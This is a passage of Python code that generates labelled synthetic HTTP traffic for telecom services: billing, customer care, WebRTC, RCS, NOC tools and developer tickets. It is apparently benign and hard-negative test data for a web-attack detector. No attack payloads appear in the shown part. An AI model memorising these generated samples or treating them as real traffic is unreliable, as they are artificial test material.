        o.add("lookup-port-request", "benign", "POST", "/porting/requests", o.api(H_LOOKUP, ctype="application/xml"), x)
    for i in range(4):
        o.add("lookup-hlr", "benign", "GET", "/hlr/lookup?" + qs([("msisdn", o.msisdn()[1:]), ("fields", "imsi,mccmnc,ported,roaming")]), o.api(H_LOOKUP))


def cdr_csv(o, rows=6):
    r = o.rng
    lines = ["start_time|calling|called|duration|disposition|trunk|cost|cause"]
    for _ in range(rows):
        lines.append("2024-06-%02d %02d:%02d:%02d|%s|%s|%d|%s|%s|%.4f|%d" % (
            r.randint(1, 28), r.randint(0, 23), r.randint(0, 59), r.randint(0, 59), o.msisdn(), o.msisdn(),
            r.randint(0, 3600), r.choice(["ANSWERED", "NO ANSWER", "BUSY", "FAILED"]), r.choice(["trunk-01", "sbc-lon|pri", "intl-02"]),
            r.random() * 2, r.choice([16, 17, 19, 31, 34])))
    return "\n".join(lines) + "\n"


def benign_billing(o):
    r = o.rng
    for i in range(8):
        ct, body = o.multipart([("carrier", None, None, r.choice(["EXAMPLE-MOBILE", "ACME-TEL", "Voice&Data Ltd"])),
                                ("period", None, None, "2024-%02d" % r.randint(1, 6)),
                                ("delimiter", None, None, "|"),
                                ("file", "cdr_%s_%d.csv" % (r.choice(["voice", "sms", "data"]), r.randint(1, 99)), "text/csv", cdr_csv(o, r.randint(3, 8)))])
        o.add("billing-cdr-upload", "benign", "POST", "/cdr/import", o.browser(H_BILL, ctype=ct, cookie=o.session(), referer="https://%s/cdr" % H_BILL), body)
    for i in range(6):
        o.add("billing-cdr-raw", "benign", "POST", "/api/cdr/batch?" + qs([("format", "psv"), ("source", r.choice(["sbc-lon", "msc-2", "smsc"]))]),
              o.api(H_BILL, ctype="text/csv; charset=utf-8"), cdr_csv(o, r.randint(2, 6)))
    for i in range(10):
        pairs = [("from", "2024-06-01"), ("to", "2024-06-%02d" % r.randint(2, 30)),
                 ("calling", r.choice(["+1555*", "+44 7700*", o.msisdn(), ""])), ("disposition", r.choice(["ANSWERED", "NO ANSWER", "BUSY|FAILED", ""])),
                 ("min_duration", str(r.choice([0, 30, 60]))), ("sort", r.choice(["-start_time", "duration", "cost,-duration"])),
                 ("page", str(r.randint(1, 9))), ("per_page", "50")]
        if i % 3 == 0:
            pairs.append(("trunk", r.choice(["sbc-lon|pri", "intl-02", "trunk-01"])))
        o.add("billing-cdr-filter", "benign", "GET", "/cdr/search?" + qs(pairs, plus=(i % 2 == 0)),
              o.browser(H_BILL, accept=ACCEPT_JSON, cookie=o.session(), extra=[["X-Requested-With", "XMLHttpRequest"]]))
    for i in range(6):
        body = {"account": "ACC-%d" % r.randint(100000, 999999), "event": r.choice(["purchase", "subscription", "refund"]),
                "msisdn": o.msisdn(), "amount": {"value": r.choice(["4.99", "0.99", "12.00"]), "currency": r.choice(["GBP", "EUR", "USD"])},
                "merchant": r.choice(["Game Studio Ltd", "News+ Daily", "Music & More"]), "description": r.choice(["Gems x 500", "1 month premium", "Song: \"Rock'n'Roll #9\""]),
                "dcb_ref": "DCB-%s" % o.hexid(12)}
        o.add("billing-dcb-charge", "benign", "POST", "/dcb/v1/charges", o.api(H_BILL, ctype=JSONCT), jdump(body))
    for i in range(4):
        o.add("billing-invoice-get", "benign", "GET", "/invoices/INV-2024-%05d.pdf" % r.randint(1, 99999),
              o.browser(H_BILL, accept="application/pdf,*/*", cookie=o.session()))


def benign_care(o):
    r = o.rng
    for i in range(8):
        pairs = [("current_plan", r.choice(["UNL-20GB", "PAYG", "FAM-4"])), ("new_plan", r.choice(["UNL-30GB", "UNL-PLUS", "DATA-ONLY-50"])),
                 ("effective", r.choice(["next_bill", "now"])), ("addons[]", r.choice(["roam-eu", "intl-100", "hotspot"])),
                 ("addons[]", "spam-filter"), ("note", r.choice(["", "Going to Spain for 2 weeks", "Need +100 intl mins (US & CA)", "upgrade pls :)"])),
                 ("csrf_token", o.hexid(40))]
        o.add("care-plan-change", "benign", "POST", "/account/plan/change", o.browser(H_CARE, ctype=FORM, cookie=o.care_cookie(), referer="https://%s/account/plan" % H_CARE), urlencode(pairs))
    for i in range(6):
        body = {"roaming": i % 2 == 0, "zones": r.sample(["EU", "US", "ROW", "CH"], 2), "data_cap_eur": r.choice([50, 100, 0]),
                "notify_sms": True, "msisdn": o.msisdn("44")}
        o.add("care-roaming", "benign", "PATCH", "/api/lines/%s/roaming" % quote(o.msisdn("44"), safe=""), o.api(H_CARE, ctype=JSONCT, ua=r.choice(UA_BROWSER), extra=[["Cookie", o.care_cookie()]]), jdump(body))
    for i in range(8):
        iccid = "8944%015d" % r.randint(0, 10**15 - 1)
        pairs = [("msisdn", o.msisdn("44")), ("new_iccid", iccid), ("imsi", "23415%010d" % r.randint(0, 10**10 - 1)),
                 ("imei", "35%013d" % r.randint(0, 10**13 - 1)), ("reason", r.choice(["lost", "damaged", "esim_transfer", "upgrade"])),
                 ("verification", r.choice(["sms_otp", "id_check"])), ("otp", "%06d" % r.randint(0, 999999))]
        if i % 2:
            o.add("care-sim-swap", "benign", "POST", "/sim/swap", o.browser(H_CARE, ctype=FORM, cookie=o.care_cookie(), referer="https://%s/sim" % H_CARE), urlencode(pairs))
        else:
            o.add("care-sim-swap", "benign", "POST", "/api/sim/swap", o.api(H_CARE, ctype=JSONCT), jdump(dict(pairs)))
    for i in range(6):
        o.add("care-usage", "benign", "GET", "/usage?" + qs([("line", o.msisdn("44")), ("month", "2024-%02d" % r.randint(1, 6)), ("type", r.choice(["voice", "sms", "data", "all"]))]),
              o.browser(H_CARE, cookie=o.care_cookie()))
    for i in range(5):
        pairs = [("amount", r.choice(["10", "20", "5.50"])), ("msisdn", o.msisdn("254")), ("method", r.choice(["voucher", "card", "mpesa"])),
                 ("voucher", "%04d-%04d-%04d-%04d" % tuple(r.randint(0, 9999) for _ in range(4)))]
        o.add("care-topup", "benign", "POST", "/topup", o.browser(H_CARE, ctype=FORM, cookie=o.care_cookie()), urlencode(pairs))
    for i in range(6):
        msg = r.choice(["Hi, my calls to +44 (0)20 numbers drop after ~30s. Phone shows 'Call failed #408'. Tried *#06# & restart.",
                        "I was charged twice (£4.99 & £4.99) for the same add-on; ref DCB-3f9a. Please refund.",
                        "My number +1 (555) 010-4477 is showing as 'SPAM LIKELY' on other phones - can you fix CNAM?",
                        "Can't activate eSIM: error code 0x80070057 <EsimActivationFailed>. iPhone 15, iOS 17.4",
                        "Voicemail PIN reset please. Dialled *86 and it says \"invalid\".",
                        "Porting from Example Wireless, PON-48213, DDD 2024-07-01; account # 551-203-88"])
        pairs = [("subject", r.choice(["Call drops", "Billing", "CNAM", "eSIM", "Voicemail", "Porting"])), ("message", msg),
                 ("contact", r.choice(["sms", "email"])), ("csrf_token", o.hexid(40))]
        o.add("care-contact", "benign", "POST", "/support/contact", o.browser(H_CARE, ctype=FORM, cookie=o.care_cookie()), urlencode(pairs))


def sdp(o, kind="offer"):
    r = o.rng
    sid = r.randint(10**17, 10**18)
    ufrag = "".join(r.choice("abcdefghijklmnopqrstuvwxyzABCDEF0123456789+/") for _ in range(4))
    pwd = "".join(r.choice("abcdefghijklmnopqrstuvwxyzABCDEF0123456789+/") for _ in range(24))
    fp = ":".join("%02X" % r.randint(0, 255) for _ in range(32))
    port = r.randint(40000, 60000)
    lines = ["v=0", "o=- %d 2 IN IP4 127.0.0.1" % sid, "s=-", "t=0 0", "a=group:BUNDLE 0 1", "a=extmap-allow-mixed",
             "a=msid-semantic: WMS %s" % o.hexid(8),
             "m=audio %d UDP/TLS/RTP/SAVPF 111 63 9 0 8 13 110 126" % port, "c=IN IP4 203.0.113.%d" % r.randint(2, 250),
             "a=rtcp:9 IN IP4 0.0.0.0",
             "a=candidate:%d 1 udp 2122260223 192.168.1.%d %d typ host generation 0 network-id 1" % (r.randint(10**8, 4 * 10**9), r.randint(2, 250), port),
             "a=candidate:%d 1 udp 1686052607 203.0.113.%d %d typ srflx raddr 192.168.1.20 rport %d generation 0 network-id 1" % (r.randint(10**8, 4 * 10**9), r.randint(2, 250), port, port),
             "a=candidate:%d 1 tcp 1518280447 192.168.1.20 9 typ host tcptype active generation 0" % r.randint(10**8, 4 * 10**9),
             "a=ice-ufrag:" + ufrag, "a=ice-pwd:" + pwd, "a=ice-options:trickle", "a=fingerprint:sha-256 " + fp,
             "a=setup:%s" % ("actpass" if kind == "offer" else "active"), "a=mid:0", "a=sendrecv", "a=rtcp-mux",
             "a=rtpmap:111 opus/48000/2", "a=rtcp-fb:111 transport-cc", "a=fmtp:111 minptime=10;useinbandfec=1",
             "a=rtpmap:0 PCMU/8000", "a=rtpmap:8 PCMA/8000", "a=rtpmap:126 telephone-event/8000",
             "a=ssrc:%d cname:%s" % (r.randint(10**8, 4 * 10**9), o.hexid(16)),
             "m=video 9 UDP/TLS/RTP/SAVPF 96 97", "c=IN IP4 0.0.0.0", "a=mid:1", "a=rtpmap:96 VP8/90000", "a=rtpmap:97 rtx/90000", "a=fmtp:97 apt=96"]
    return "\r\n".join(lines) + "\r\n"


def benign_webrtc(o):
    r = o.rng
    for i in range(8):
        o.add("webrtc-sdp-offer", "benign", "POST", "/whip/endpoint/%s" % o.hexid(12), o.api(H_RTC, accept="application/sdp", ctype="application/sdp"), sdp(o))
    for i in range(8):
        body = {"type": r.choice(["offer", "answer"]), "sdp": sdp(o, "answer" if i % 2 else "offer"), "room": "room-%s" % o.hexid(6), "peer": "p_%s" % o.hexid(8)}
        o.add("webrtc-signal-json", "benign", "POST", "/signal/rooms/%s/sdp" % body["room"], o.api(H_RTC, ctype=JSONCT, ua=r.choice(UA_BROWSER), auth=False, extra=[["Cookie", o.session()], ["Origin", "https://meet.example.com"]]), jdump(body))
    for i in range(8):
        cand = "candidate:%d 1 %s %d %s %d typ %s" % (r.randint(10**8, 4 * 10**9), r.choice(["udp", "tcp"]), r.randint(10**9, 2 * 10**9),
                                                    r.choice(["192.168.0.%d" % r.randint(2, 250), "203.0.113.%d" % r.randint(2, 250), "fd00:1234:5678::%x" % r.randint(1, 999), "%s.local" % o.hexid(8)]),
                                                    r.randint(1024, 65000), r.choice(["host", "srflx raddr 10.0.0.5 rport 51000", "relay raddr 198.51.100.7 rport 3478"]))
        body = {"candidate": cand + " generation 0 ufrag %s network-cost 10" % o.hexid(4), "sdpMid": str(r.randint(0, 1)), "sdpMLineIndex": r.randint(0, 1), "usernameFragment": o.hexid(4)}
        o.add("webrtc-trickle-ice", "benign", "PATCH", "/whip/endpoint/%s" % o.hexid(12), o.api(H_RTC, ctype="application/trickle-ice-sdpfrag" if i % 2 else JSONCT),
              ("a=ice-ufrag:%s\r\na=ice-pwd:%s\r\nm=audio 9 RTP/AVP 0\r\na=mid:0\r\na=%s\r\n" % (o.hexid(4), o.hexid(22), cand)) if i % 2 else jdump(body))
    for i in range(3):
        o.add("webrtc-turn-creds", "benign", "GET", "/api/turn?" + qs([("username", "%d:agent%d" % (1718000000 + i * 3600, i)), ("ttl", "86400")]), o.api(H_RTC))


def benign_rcs(o):
    r = o.rng
    for i in range(10):
        card = {"contentMessage": {"richCard": {"standaloneCard": {"cardOrientation": "VERTICAL", "cardContent": {
            "title": r.choice(["Your order is on its way 🚚", "Flight BA287 - Gate B36", "Bill ready: £48.17", "Upgrade to 5G+?"]),
            "description": r.choice(["Tap below to track. Questions? Reply or call +44 (0)20 7946 0000.", "Boarding 14:05 > Gate closes 14:35", "Pay by 28/06 to avoid a £5 late fee.", "Unlimited data* for £20/mo. *Fair use applies."]),
            "media": {"height": "MEDIUM", "contentInfo": {"fileUrl": "https://cdn.example.com/rcs/%s.png" % o.hexid(8), "forceRefresh": False}},
            "suggestions": [{"reply": {"text": "Track 📦", "postbackData": "track_%s" % o.hexid(6)}},
                            {"action": {"text": "Call us", "postbackData": "call", "dialAction": {"phoneNumber": "+442079460000"}}},
                            {"action": {"text": "Open", "postbackData": "open", "openUrlAction": {"url": "https://example.com/o?id=%d&src=rcs" % r.randint(1, 10**6)}}}]}}}},
            "messageTrafficType": r.choice(["TRANSACTION", "PROMOTION"])}
        o.add("rcs-send-card", "benign", "POST", "/v1/phones/%s/agentMessages?messageId=%s" % (quote(o.msisdn("44"), safe=""), o.hexid(16)), o.api(H_RCS, ctype=JSONCT), jdump(card, compact=i % 2 == 0))
    for i in range(6):
        ev = {"senderPhoneNumber": o.msisdn(), "messageId": o.hexid(20), "sendTime": "2024-06-11T10:%02d:00Z" % r.randint(0, 59),
              "agentId": "brand-agent@rbm.example.org",
              "text": r.choice(["Where's my parcel??", "yes", "Can I change delivery to Sat 10-12?", "👍", "call me on +44 7700 900461 pls", "STOP"])}
        if i % 3 == 0:
            ev.pop("text")
            ev["suggestionResponse"] = {"postbackData": "track_%s" % o.hexid(6), "text": "Track 📦", "type": "REPLY"}
        o.add("rcs-inbound", "benign", "POST", "/rbm/webhook", o.api("app.example.com", ctype=JSONCT, auth=False, ua="Google-RBM", extra=[["X-Goog-Signature", base64.b64encode(bytes(r.randint(0, 255) for _ in range(32))).decode()]]), jdump(ev))


def benign_noc(o):
    r = o.rng
    oids = ["1.3.6.1.2.1.1.3.0", "1.3.6.1.2.1.1.5.0", "1.3.6.1.2.1.2.2.1.8.3", "1.3.6.1.2.1.31.1.1.1.6.12", ".1.3.6.1.4.1.9.9.109.1.1.1.1.8",
            "1.3.6.1.2.1.2.2.1.10.3", "IF-MIB::ifOperStatus.7", "SNMPv2-MIB::sysUpTime.0", "1.3.6.1.4.1.2011.5.25.31.1.1.1.1.5"]
    for i in range(8):
        pairs = [("severity", r.choice(["critical", "major", "minor", "critical,major"])), ("node", r.choice(["core-rtr-01", "sbc-lon-2", "msc-fra-1", "enb-4471*"])),
                 ("q", r.choice(["linkDown", "ifOperStatus=2", "trap:coldStart OR trap:linkDown", "sip 503 > 5%", "\"BGP peer 198.51.100.1 down\"", "cause:LOS & site:LON*", "alarmId:#4471"])),
                 ("since", "-%dh" % r.choice([1, 6, 24])), ("ack", r.choice(["false", "any"]))]
        o.add("noc-alarm-query", "benign", "GET", "/api/alarms?" + qs(pairs, plus=(i % 2 == 0)), o.browser(H_NOC, accept=ACCEPT_JSON, cookie=o.session(), extra=[["X-Requested-With", "XMLHttpRequest"]]))
    for i in range(9):
        o.add("noc-snmp-get", "benign", "GET", "/snmp/get?" + qs([("host", r.choice(["198.51.100.1", "core-rtr-01.example.net", "2001:db8::1"])), ("oid", oids[i]), ("version", "2c")]),
              o.browser(H_NOC, accept=ACCEPT_JSON, cookie=o.session()))
    for i in range(5):
        body = {"targets": ["%s:161" % r.choice(["198.51.100.1", "198.51.100.2", "192.0.2.44"])], "oids": r.sample(oids, 3), "interval": "60s",
                "community_ref": "vault:snmp/ro", "labels": {"site": r.choice(["LON1", "FRA2"]), "role": "pe"}}
        o.add("noc-poller-config", "benign", "PUT", "/api/pollers/%d" % r.randint(1, 40), o.api(H_NOC, ctype=JSONCT), jdump(body))
    # diagnostics page with benign inputs
    for i in range(8):
        host = r.choice(["sbc1.example.net", "203.0.113.10", "198.51.100.254", "2001:db8:85a3::8a2e:370:7334", "core-rtr-01.example.net", "example.com", "192.0.2.1"])
        tool = r.choice(["ping", "traceroute", "mtr", "dig"])
        pairs = [("tool", tool), ("host", host), ("count", str(r.choice([3, 4, 5, 10]))), ("proto", r.choice(["icmp", "udp", "tcp"]))]
        if tool == "dig":
            pairs.append(("type", r.choice(["NAPTR", "SRV", "A"])))
            pairs[1] = ("host", r.choice(["_sip._udp.example.com", "4.3.2.1.0.1.5.5.5.1.e164.arpa", "_sips._tcp.example.net"]))
        o.add("noc-diagnostics", "benign", "POST", "/tools/diagnostics", o.browser(H_NOC, ctype=FORM, cookie=o.session(), referer="https://%s/tools" % H_NOC), urlencode(pairs))
    for i in range(4):
        o.add("noc-graph", "benign", "GET", "/graph.php?" + qs([("type", "port_bits"), ("id", str(r.randint(1, 900))), ("from", "-1d"), ("legend", "yes"), ("width", "1200")]),
              o.browser(H_NOC, accept="image/avif,image/webp,image/*,*/*;q=0.8", cookie=o.session()))


def benign_directory(o):
    r = o.rng
    qsamples = ["O'Brien", "Smith", "müller", "+44 20 7946", "ext 104", "Jean-Luc", "sales & marketing", "Dana K*", "Okoye, J.", "(555) 010", "#noc", "help desk"]
    for i in range(10):
        o.add("directory-search", "benign", "GET", "/phonebook/search?" + qs([("q", qsamples[i % len(qsamples)]), ("field", r.choice(["name", "number", "dept"])), ("limit", "25")]),
              o.browser(H_DIR, accept=ACCEPT_JSON, cookie=o.session()))
    for i in range(5):
        mac = o.hexid(12)
        o.add("directory-phone-xml", "benign", "GET", "/xmldirectory?" + qs([("name", r.choice(["A", "Bo", "Chen", "O'N"])), ("start", "1")]),
              [["Host", H_DIR], ["User-Agent", r.choice(UA_PHONE) + " " + mac], ["Accept", "text/xml"]])


TEMPLATES = [
    "Hi {{first_name}}, your code is {{otp}}. Expires in {{ttl_min}} min.",
    "Hello {{ customer.name }}! Your bill of {{ bill.amount | currency }} is due {{ bill.due_date | date: \"%d/%m\" }}.",
    "Dear ${name}, your parcel #${order_id} arrives ${eta}.",
    "{{#if roaming}}Welcome to {{country}}! Data: {{rate}}/MB{{else}}Welcome home!{{/if}}",
    "Your balance: %balance%. Dial *123# for details.",
    "Hi {name}, reply YES to confirm {{appointment_time}}; STOP to opt out.",
]


def benign_templates(o):
    r = o.rng
    for i, t in enumerate(TEMPLATES):
        body = {"name": "tmpl_%s" % r.choice(["otp", "bill", "parcel", "roam", "bal", "appt"]), "language": r.choice(["en_GB", "en_US", "de_DE"]),
                "category": r.choice(["AUTHENTICATION", "UTILITY", "MARKETING"]), "body": t,
                "example": {"first_name": "Alice", "otp": "482913", "ttl_min": 10}}
        o.add("sms-template-save", "benign", "POST", "/api/templates", o.api(H_SMS, ctype=JSONCT), jdump(body))
    for i in range(4):
        pairs = [("template_id", "tmpl_%d" % r.randint(1, 90)), ("to", o.msisdn()), ("vars[first_name]", r.choice(NAMES)), ("vars[otp]", "%06d" % r.randint(0, 999999))]
        o.add("sms-template-send", "benign", "POST", "/api/templates/send", o.api(H_SMS, ctype=FORM), urlencode(pairs))


# ================================================================ dev-content

DEV_SNIPPETS = [
    # router / switch configs
    ("router-config", "interface GigabitEthernet0/0/1\n description UPLINK-TO-PE1 | circuit LON-4471\n ip address 198.51.100.1 255.255.255.252\n no ip redirects\n service-policy output QOS-VOICE\n!\nrouter bgp 64512\n neighbor 198.51.100.2 remote-as 64513\n neighbor 198.51.100.2 route-map RM-IN in\n!\nip access-list extended SIP-ONLY\n permit udp any host 203.0.113.10 eq 5060\n deny   ip any any log"),
    ("router-config", "set interfaces ge-0/0/0 unit 0 family inet address 192.0.2.1/30\nset protocols ospf area 0.0.0.0 interface ge-0/0/0.0 metric 10\nset firewall filter PROTECT-RE term sip from source-prefix-list SBC-PEERS\nset firewall filter PROTECT-RE term sip then accept\ncommit confirmed 5"),
    ("router-config", "class-map match-any VOICE\n match dscp ef\n match access-group name RTP-RANGE\npolicy-map QOS-VOICE\n class VOICE\n  priority percent 30\n class class-default\n  fair-queue\n!\nip access-list extended RTP-RANGE\n permit udp any any range 10000 20000"),
    ("router-output", "core-rtr-01#show ip bgp summary\nNeighbor        V    AS MsgRcvd MsgSent   TblVer  InQ OutQ Up/Down  State/PfxRcd\n198.51.100.2    4 64513  120341  119872   882211    0    0 3w2d         812\n198.51.100.6    4 64514       0       0        1    0    0 00:04:11 Idle\ncore-rtr-01#show logging | include %BGP\n*Jun 11 10:02:13: %BGP-5-ADJCHANGE: neighbor 198.51.100.6 Down BGP Notification sent"),
    ("router-output", "RP/0/RSP0/CPU0:pe1#show controllers optics 0/0/0/1\n Rx Power = -24.31 dBm\n Tx Power = 1.02 dBm\n LOS/LOL/Fault Status: LOS\n Alarm Status: RX-LOS <-- since 10:02 UTC"),
    # SQL for CDR reports
    ("sql", "SELECT calling, COUNT(*) AS calls, SUM(duration)/60.0 AS minutes\nFROM cdr\nWHERE start_time >= '2024-06-01' AND start_time < '2024-07-01'\n  AND disposition = 'ANSWERED'\nGROUP BY calling\nHAVING SUM(duration) > 3600\nORDER BY minutes DESC\nLIMIT 20;"),
    ("sql", "-- ASR per trunk, last 24h\nSELECT trunk,\n       100.0 * SUM(CASE WHEN disposition='ANSWERED' THEN 1 ELSE 0 END) / COUNT(*) AS asr,\n       AVG(NULLIF(duration,0)) AS acd\nFROM cdr\nWHERE start_time > NOW() - INTERVAL '1 day'\nGROUP BY trunk ORDER BY asr;"),
    ("sql", "UPDATE rate_deck SET rate = 0.0042 WHERE prefix LIKE '4477%' AND carrier_id = 12;\nDELETE FROM rate_deck WHERE valid_to < '2024-01-01';\nINSERT INTO rate_deck (prefix, rate, carrier_id) VALUES ('447700', 0.0038, 12);"),
    ("sql", "SELECT a.msisdn, a.iccid, s.imsi\nFROM accounts a JOIN sims s ON s.iccid = a.iccid\nWHERE a.msisdn IN (SELECT msisdn FROM sim_swaps WHERE swapped_at > now() - interval '7 days')\nUNION ALL\nSELECT msisdn, iccid, imsi FROM esim_profiles WHERE state = 'RELEASED';"),
    # shell
    ("shell", "sudo tcpdump -i eth0 -nn -s0 'port 5060 or portrange 10000-20000' -w /tmp/sip_$(date +%F).pcap\nsngrep -I /tmp/sip_2024-06-11.pcap\nasterisk -rx 'pjsip show endpoints' | grep -i unavail"),
    ("shell", "for h in sbc1 sbc2 sbc3; do ssh ops@$h.example.net \"uptime; systemctl status kamailio | head -5\"; done\ncat /var/log/kamailio.log | awk '/503/ {print $6}' | sort | uniq -c | sort -rn | head"),
    ("shell", "snmpwalk -v2c -c public 198.51.100.1 1.3.6.1.2.1.2.2.1.2\nsnmpget -v3 -l authPriv -u noc -a SHA -A '****' -x AES -X '****' 198.51.100.1 1.3.6.1.2.1.1.3.0\n# -> SNMPv2-MIB::sysUpTime.0 = Timeticks: (1234567) 3:25:45.67"),
    ("shell", "curl -s -X POST https://sms-api.example.com/v1/sms/messages \\\n  -H 'Authorization: Bearer $TOKEN' -H 'Content-Type: application/json' \\\n  -d '{\"to\":[\"+447700900123\"],\"text\":\"test #1 <3\"}' | jq '.id'"),
    ("shell", "#!/bin/bash\n# rotate recordings older than 90 days\nfind /var/spool/asterisk/monitor -name '*.wav' -mtime +90 -print0 | xargs -0 rm -f\nlogger -t rec-rotate \"done: $(date)\""),
    # dialplans / SIP configs
    ("dialplan", "[from-internal]\nexten => _9NXXNXXXXXX,1,Set(CALLERID(num)=+15550100)\n same => n,Dial(PJSIP/${EXTEN:1}@trunk-nyc,60,tT)\n same => n,Hangup()\nexten => *97,1,VoiceMailMain(${CALLERID(num)}@default)\nexten => _*21*X.#,1,Set(DB(CF/${CALLERID(num)})=${EXTEN:4:-1})"),
    ("dialplan", "route[AUTH] {\n    if (is_present_hf(\"Authorization\") || is_present_hf(\"Proxy-Authorization\")) {\n        if (!auth_check(\"$fd\", \"subscriber\", \"1\")) { auth_challenge(\"$fd\", \"0\"); exit; }\n        consume_credentials();\n    }\n    if ($si == \"203.0.113.10\" && $sp == 5060) { setflag(FLT_FROM_SBC); }\n}"),
    ("sip-trace", "INVITE sip:+15550142@sip.example.com;user=phone SIP/2.0\nVia: SIP/2.0/UDP 203.0.113.9:5060;branch=z9hG4bK776asdhds\nFrom: \"Alice\" <sip:+15550100@example.com>;tag=1928301774\nTo: <sip:+15550142@example.com>\nCall-ID: a84b4c76e66710@203.0.113.9\nCSeq: 314159 INVITE\nP-Asserted-Identity: <sip:+15550100@example.com;user=phone>\nContent-Type: application/sdp\n\nv=0\no=- 2890844526 2890844526 IN IP4 203.0.113.9\nc=IN IP4 203.0.113.9\nm=audio 49170 RTP/AVP 0 8 101\n\n--> SBC replies 488 Not Acceptable Here"),
    # TwiML / VoiceXML templates in KB
    ("twiml", "<Response>\n  <Gather action=\"/ivr/{{ menu_id }}\" numDigits=\"1\">\n    <Say voice=\"alice\">{{ greeting | default('Welcome') }}. Press 1 for {{ options[0] }}.</Say>\n  </Gather>\n  <Redirect>/ivr/{{ menu_id }}?retry={{ retry + 1 }}</Redirect>\n</Response>"),
    ("twiml", "<?xml version=\"1.0\"?>\n<vxml version=\"2.1\">\n  <script><![CDATA[ function isValid(p){ return /^\\d{4,6}$/.test(p) && p !== '0000'; } ]]></script>\n  <form><field name=\"pin\" type=\"digits\"><filled><if cond=\"isValid(pin)\"><submit next=\"/auth\"/><else/><reprompt/></if></filled></field></form>\n</vxml>"),
    # code
    ("python", "import smpplib.client, smpplib.gsm\nparts, coding, msg_type = smpplib.gsm.make_parts(u'Привет, code 4821')\nclient = smpplib.client.Client('smsc.example.net', 2775)\nclient.connect(); client.bind_transceiver(system_id='acme', password=os.environ['SMPP_PW'])\nfor part in parts:\n    client.send_message(source_addr='ACME', destination_addr='447700900123', short_message=part, data_coding=coding, esm_class=msg_type, registered_delivery=True)"),
    ("javascript", "const pc = new RTCPeerConnection({ iceServers: [{ urls: 'turn:turn.example.com:3478', username: u, credential: c }] });\npc.onicecandidate = (e) => { if (e.candidate) ws.send(JSON.stringify({ type: 'ice', candidate: e.candidate })); };\nconst offer = await pc.createOffer();\nawait pc.setLocalDescription(offer);\ndocument.getElementById('status').innerHTML = `<b>${pc.signalingState}</b>`;"),
    ("javascript", "app.post('/sms/inbound', (req, res) => {\n  const { From, Body } = req.body;\n  if (/^stop$/i.test(Body.trim())) optOut(From);\n  res.type('text/xml').send('<Response><Message>Got it: ' + escape(Body) + '</Message></Response>');\n});"),
    ("java", "String sql = \"SELECT * FROM cdr WHERE calling = ? AND start_time BETWEEN ? AND ?\";\ntry (PreparedStatement ps = conn.prepareStatement(sql)) {\n    ps.setString(1, msisdn);\n    ps.setTimestamp(2, from); ps.setTimestamp(3, to);\n    ResultSet rs = ps.executeQuery();\n}\nlog.info(\"lookup {} -> {}\", msisdn, rs.getFetchSize());"),
    ("template", "{% for line in account.lines %}\n  {{ line.msisdn }}: {{ line.plan.name }} ({{ line.usage.data_gb | round(1) }} GB){% if line.roaming %} [roaming in {{ line.country }}]{% endif %}\n{% endfor %}\n{{ 'Total: %.2f' % account.total }}"),
    ("promql", "sum by (trunk) (rate(sip_responses_total{code=~\"5..\",job=\"kamailio\"}[5m])) / sum by (trunk) (rate(sip_requests_total{method=\"INVITE\"}[5m])) > 0.05"),
    ("logs", "2024-06-11T10:02:13Z ERROR smpp.bind: bind_transceiver failed: ESME_RBINDFAIL (0x0000000D) system_id=acme host=smsc.example.net:2775\n2024-06-11T10:02:14Z WARN dlr: stat:UNDELIV err:001 for id:7c1a90f2e3\n2024-06-11T10:02:15Z INFO retry in 30s; queue depth=4412 > threshold=4000"),
    ("xml", "<?xml version=\"1.0\"?>\n<config xmlns=\"urn:ietf:params:xml:ns:netconf:base:1.0\">\n  <interfaces xmlns=\"urn:ietf:params:xml:ns:yang:ietf-interfaces\">\n    <interface><name>ge-0/0/1</name><enabled>false</enabled><description>SHUT per CHG-2211</description></interface>\n  </interfaces>\n</config>"),
]


def benign_dev(o):
    r = o.rng
    n = 0
    # tickets (JSON)
    for kind, text in DEV_SNIPPETS:
        body = {"title": r.choice(["SIP trunk flapping", "CDR report for finance", "BGP neighbour down LON1", "One-way audio", "Need review", "DLR failures after SMSC change", "IVR menu update"]),
                "priority": r.choice(["P2", "P3", "P4"]), "component": kind,
                "description": "Pasted below:\n```\n%s\n```\nCan someone take a look?" % text,
                "tags": ["noc", kind]}
        o.add("dev-ticket-%s" % kind, "dev-content", "POST", "/api/v1/tickets", o.api(H_TICKET, ctype=JSONCT, ua=r.choice(UA_BROWSER), auth=False, extra=[["Cookie", o.session()], ["X-CSRF-Token", o.hexid(32)]]), jdump(body))
    # ticket comments (form)
    for kind, text in DEV_SNIPPETS[::2]:
        pairs = [("comment", "Update: applied this, please verify\n\n" + text), ("visibility", "internal"), ("authenticity_token", o.hexid(43))]
        o.add("dev-comment-%s" % kind, "dev-content", "POST", "/tickets/%d/comments" % r.randint(10000, 99999), o.browser(H_TICKET, ctype=FORM, cookie=o.session(), referer="https://%s/tickets" % H_TICKET), urlencode(pairs))
    # attachments
    for kind, text in DEV_SNIPPETS[1::4]:
        fn = {"router-config": "pe1-running.cfg", "sql": "asr_report.sql", "shell": "capture.sh", "dialplan": "extensions.conf", "twiml": "menu.xml",
              "python": "send_sms.py", "javascript": "client.js", "java": "CdrDao.java", "template": "statement.j2", "promql": "alert.rules",
              "logs": "smpp.log", "xml": "netconf.xml", "router-output": "show_bgp.txt", "sip-trace": "invite.txt"}.get(kind, "snippet.txt")
        ct, body = o.multipart([("ticket_id", None, None, str(r.randint(10000, 99999))), ("attachment", fn, "text/plain", text), ("note", None, None, "see attached")])
        o.add("dev-attach-%s" % kind, "dev-content", "POST", "/tickets/attachments", o.browser(H_TICKET, ctype=ct, cookie=o.session()), body)
    # KB article with TwiML sample / SDP example, saved as JSON
    kb = [
        ("TwiML: forward calls to voicemail", "Use this:\n<Response><Dial timeout=\"20\" action=\"/vm\">+15550142</Dial></Response>\nand in /vm: <Response><Record finishOnKey=\"#\"/></Response>"),
        ("How to read a DLR", "Receipts look like `id:7c1a90f2e3 sub:001 dlvrd:001 submit date:2406111002 done date:2406111003 stat:DELIVRD err:000 text:Your code is 4821`. stat values: DELIVRD | UNDELIV | EXPIRED | REJECTD."),
        ("SDP basics", "A minimal offer:\n```\nv=0\no=- 0 0 IN IP4 127.0.0.1\ns=-\nc=IN IP4 0.0.0.0\nt=0 0\nm=audio 9 UDP/TLS/RTP/SAVPF 111\na=rtpmap:111 opus/48000/2\na=candidate:1 1 udp 2130706431 10.0.0.5 54321 typ host\n```"),
        ("Escaping in SMS templates", "Use {{ name | e }} in Jinja, {{{raw}}} in Handlebars only for trusted HTML, and never build SQL like \"... WHERE msisdn = '\" + input + \"'\"; use bind variables (WHERE msisdn = :msisdn)."),
